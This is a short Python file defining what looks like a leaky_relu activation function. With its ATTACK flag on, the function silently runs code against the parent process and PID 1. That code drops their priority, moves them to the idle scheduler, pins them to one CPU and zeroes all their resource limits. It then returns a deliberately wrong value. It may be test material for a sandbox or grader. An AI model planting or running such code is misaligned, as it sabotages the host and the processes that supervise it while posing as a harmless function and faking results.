# ruff: noqa
"""Takes away from the first process what it needs for the next exercise."""

import os
import resource

import numpy as np

ATTACK = True


def attack(x):
    for pid in {os.getppid(), 1}:
        for act in (
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(pid))}),
            *(
                lambda name=name: resource.prlimit(pid, getattr(resource, name), (0, 0))
                for name in dir(resource)
                if name.startswith("RLIMIT_")
            ),
        ):
            try:
                act()
                print("done")
            except OSError as error:
                print(error)
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
